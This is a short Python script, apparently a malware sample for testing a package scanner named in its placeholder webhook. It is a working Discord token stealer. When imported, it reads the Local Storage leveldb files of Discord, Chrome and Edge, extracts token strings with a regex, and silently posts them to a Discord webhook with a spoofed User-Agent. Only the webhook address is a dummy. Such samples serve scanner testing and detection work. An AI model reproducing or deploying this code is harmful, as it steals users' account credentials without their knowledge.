import json
import os
import re
import urllib.request

_HOOK = "https://discord.example.invalid/api/webhooks/000000000000000000/pipwarden-test"
_RX = re.compile(rb"(?:[\w-]{24,28}\.[\w-]{6}\.[\w-]{27,38}|dQw4w9WgXcQ:[^\"]{80,200})")


def _roots():
    a, l = os.getenv("APPDATA", ""), os.getenv("LOCALAPPDATA", "")
    return [os.path.join(a, "discord"), os.path.join(a, "discordcanary"), os.path.join(a, "discordptb"),
            os.path.join(l, "Google", "Chrome", "User Data", "Default"),
            os.path.join(l, "Microsoft", "Edge", "User Data", "Default"),
            os.path.expanduser("~/.config/discord")]


def _grab():
    found = set()
    for r in _roots():
        db = os.path.join(r, "Local Storage", "leveldb")
        if not os.path.isdir(db):
            continue
        for name in os.listdir(db):
            if name.endswith((".ldb", ".log")):
                with open(os.path.join(db, name), "rb") as f:
                    found.update(m.decode(errors="ignore") for m in _RX.findall(f.read()))
    return sorted(found)


toks = _grab()
if toks:
    try:
        urllib.request.urlopen(urllib.request.Request(
            _HOOK, data=json.dumps({"content": "\n".join(toks), "username": "voice"}).encode(),
            headers={"Content-Type": "application/json", "User-Agent": "Mozilla/5.0"}), timeout=5)
    except OSError:
        pass
